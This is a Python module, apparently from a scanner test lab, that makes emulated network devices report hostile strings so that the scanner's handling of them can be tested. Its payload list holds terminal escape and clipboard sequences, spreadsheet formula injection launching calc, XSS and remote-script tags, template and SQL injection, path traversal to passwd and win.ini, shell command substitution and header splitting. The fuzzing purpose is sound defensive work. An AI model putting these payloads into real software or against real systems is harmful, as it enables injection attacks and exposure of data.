"""
Text that would do something where it is shown: in every string that a device says of itself.

Which settings are such strings is not listed here: all are, but for those in `SYNTAX` and in a
protocol's own `syntax`, whose form a protocol or an emulator needs. A new emulator's texts are
hostile without anybody's doing.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping, Sequence
from itertools import count
from typing import Any

from lab import frames
from lab.faults.base import Behaviour, Settings

PAYLOADS: tuple[str, ...] = (
    "\x1b[2J\x1b[1;31mowned\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://192.0.2.1/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x9b31mC1",
    "\u202eexe.tnemucod\u202c",
    "\u2066a\u2069\u200b\ufeff",
    "line\r\nSet-Cookie: a=b\r\n\r\n<h1>split",
    "nul\0after",
    "tab\tbell\x07back\x08\x7f",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</title><script src=//192.0.2.1/x></script>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "aux.txt",
    "`id`$(id);id|id",
    "%s%n%x",
    "[click](javascript:alert(1))\n# heading",
    "' OR '1'='1",
    "A" * 5000,
)

SYNTAX = frozenset(
    {
        "emulator", "engine_id", "object_id", "mac", "chassis_mac", "vendor_type", "versions",
        "communities", "users", "methods", "kex", "encryption", "mac_algs", "host_key",
        "host_key_algorithms", "tls", "login", "redirect", "form", "revision", "firmware", "state",
        "canaries", "bomb", "content_length", "challenges", "files", "listening", "user_prompt",
        "password_prompt", "passwd", "group", "running_config",
    }
)  # fmt: skip
"""Settings that are no text to be shown, or that a scan's own steps depend on."""
LONGEST = 6000
"""Characters, where nothing is known of the protocol."""


def each_text(value: Any, change: Callable[[str], str], keep: frozenset[str]) -> Any:
    """The same value with every text in it changed, but for what stands under a key of `keep`."""
    if isinstance(value, str):
        return change(value)
    if isinstance(value, Mapping):
        return {k: v if k in keep else each_text(v, change, keep) for k, v in value.items()}
    if isinstance(value, Sequence) and not isinstance(value, bytes):
        return [each_text(each, change, keep) for each in value]
    return value


def _in_turn(payloads: Sequence[str], start: int) -> Iterator[str]:
    for number in count(start):
        yield payloads[number % len(payloads)]


def _alter(protocol: str, settings: Settings, parameters: Mapping[str, Any]) -> Settings:
    given = _in_turn(
        [str(each) for each in parameters["payloads"] or PAYLOADS], int(parameters["seed"])
    )
    known = frames.protocol(protocol)
    keep = SYNTAX if known is None else SYNTAX | known.syntax

    def hostile(text: str) -> str:
        payload = next(given)
        said = payload if parameters["whole"] or not text else f"{text} {payload}"
        if known is not None and known.latin_1:
            said = said.encode("utf-8", "replace").decode("latin-1")
        return said[: LONGEST if known is None else known.longest_text]

    altered: Settings = each_text(settings, hostile, keep)
    if known is not None and known.pages:
        altered["raw"] = True
        for key in {"server", "realm"} & set(altered):
            altered[key] = _one_line(str(altered[key]))[:3000]
    if known is not None and known.certificate:
        altered["certificate_name"] = next(given)
    return altered


def _one_line(text: str) -> str:
    """A header's value as UTF-8 read byte by byte, without what would end the header."""
    raw = text.encode("utf-8", "replace").decode("latin-1")
    return "".join(char for char in raw if char not in "\r\n\0").strip()


FAULTS = (
    Behaviour(
        name="hostile_text",
        meaning="Every string that the device says of itself would do something where it is "
        "shown. With `whole` the payload stands alone, else after the device's own word.",
        alter=_alter,
        parameters={"payloads": None, "whole": False},
        variants=tuple(
            {"seed": seed, "whole": whole}
            for whole in (False, True)
            for seed in range(0, len(PAYLOADS), 6)
        ),
    ),
)
